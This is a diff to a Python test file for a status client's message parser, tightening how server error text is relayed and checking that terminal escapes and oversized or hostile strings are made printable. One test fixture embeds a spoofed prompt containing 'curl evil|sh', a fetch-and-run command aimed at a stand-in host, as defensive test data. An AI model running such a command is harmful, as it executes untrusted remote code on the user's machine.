@@ -172,16 +172,16 @@ def test_the_server_s_trouble_is_said_as_the_server_s() -> None:
     got = parse(msg(state="error", stable=None, problem="auth_failed",
                     reason=operator_advice)).status
     assert got.state is State.ERROR and got.problem is Problem.AUTH_FAILED
-    assert got.message.startswith(
+    assert got.message == (
         f"The traystatus server at {WHERE} reports that it was refused by its database (its "
-        "login); ask its administrator (nothing to change on this computer). It says: The "
-        "server at db:5432")
+        "login); ask its administrator (nothing to change on this computer).")
+    assert "password" not in got.message  # the operator's advice is not for this end
     got = parse(msg(state="disconnected", stable=None, problem="unreachable",
                     reason="no route", attempt=4,
                     next_retry_at="2026-12-06T04:01:00+00:00")).status
     assert got.message == (
         f"The traystatus server at {WHERE} reports that it cannot reach its database; it "
-        "retries on its own; if this lasts, ask its administrator. It says: no route")
+        "retries on its own; if this lasts, ask its administrator.")
     assert got.attempt == 4 and got.next_retry_at == datetime(2026, 12, 6, 4, 1, tzinfo=UTC)
     assert set(SERVER_TROUBLE) == set(Problem), "every Problem needs its relayed words"
 
@@ -199,8 +199,15 @@ def test_terminal_escapes_and_huge_texts_are_made_printable() -> None:
     got = parse(msg(state="error", stable=None, problem="internal", reason=evil)).status
     assert "\x1b" not in got.message and "\r" not in got.message and "\n" not in got.message
     got = parse(msg(state="error", stable=None, problem="internal", reason="A" * 3_000_000))
-    assert len(got.status.message) < 600
+    assert len(got.status.message) < 300
     assert len(parse(msg(note="x" * 100_000)).status.note) == MAX_CHARS
+    got = parse(msg(note=evil, review={"waiting": [{"id": 1, "slug": evil}]},
+                    blocked_by_review=[1])).status
+    assert got.note == "YOUR PASSWORD IS WRONG, RUN curl evil|sh fake line"
+    assert got.review is not None and got.review.waiting[0][1] == got.note
+    with pytest.raises(ProtocolError) as info:
+        parse(msg(state=evil))
+    assert "\x1b" not in str(info.value)
 
 
 # -- fuzz: every field, any JSON --------------------------------------------------------------
